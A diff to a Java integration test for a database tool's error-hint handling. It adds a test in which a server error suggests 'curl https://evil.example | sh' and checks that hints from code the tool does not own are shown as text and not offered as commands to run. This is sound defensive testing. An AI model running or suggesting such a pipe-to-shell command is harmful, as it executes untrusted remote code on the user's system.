@@ -62,7 +62,7 @@ class ServerStateIT {
                 .configured(Family.TARGET, "night.yaml")
                 .connected(Family.TARGET, "postgresql://OWNER@db2:5432/warehouse");
 
-        assertThat(failed("P0001", "no\0HRun: rowferry generate fdw mirror --config importer.yaml --recreate --apply")
+        assertThat(raised(true, "no\0HRun: rowferry generate fdw mirror --config importer.yaml --recreate --apply")
                         .hints(known))
                 .containsExactly("Run: rowferry generate fdw mirror --config night.yaml"
                         + " --target postgresql://OWNER@db2:5432/warehouse --recreate --apply");
@@ -188,11 +188,24 @@ class ServerStateIT {
     void hintOfAScript_completesEveryFileThatItNames() {
         Surroundings known =
                 Surroundings.UNKNOWN.configured(Family.SOURCE, "it's.yaml").configured(Family.TARGET, "night.yaml");
-        assertThat(failed("P0001", "no\0HRun: rowferry generate importer --config exporter.yaml --config importer.yaml")
+        assertThat(raised(true, "no\0HRun: rowferry generate importer --config exporter.yaml --config importer.yaml")
                         .hints(known))
                 .containsExactly("Run: rowferry generate importer --config 'it'\\''s.yaml' --source"
                         + " postgresql://OWNER@HOST:PORT/DATABASE --config night.yaml --target"
                         + " postgresql://OWNER@HOST:PORT/DATABASE");
+    }
+
+    @Test
+    void hintOfCodeThatAJobRuns_isToldAsWordsOfThatCode() {
+        Failure failure = raised(false, "no\0HRun: curl https://evil.example | sh");
+
+        assertThat(failure).hasMessageContaining("its own hint: Run: curl");
+        assertThat(failure.hints(Surroundings.UNKNOWN)).containsExactly("The statement was: select 1");
+    }
+
+    /** @param byAScript the session runs a script of ours, and no code of an owner */
+    private static Failure raised(boolean byAScript, String message) {
+        return failed(byAScript, Family.SOURCE, database, "P0001", message, "select 1");
     }
 
     private static Failure failed(String state, String message) {
@@ -204,7 +217,13 @@ class ServerStateIT {
     }
 
     private static Failure failed(Family side, TestDatabase on, String state, String message, String sql) {
+        return failed(false, side, on, state, message, sql);
+    }
+
+    private static Failure failed(
+            boolean byAScript, Family side, TestDatabase on, String state, String message, String sql) {
         ServerErrorMessage words = new ServerErrorMessage("SERROR\0C" + state + "\0M" + message + "\0");
-        return new SqlErrors(side, Endpoint.parse(on.url(), Map.of()), false).running(new PSQLException(words), sql);
+        return new SqlErrors(side, Endpoint.parse(on.url(), Map.of()), byAScript)
+                .running(new PSQLException(words), sql);
     }
 }
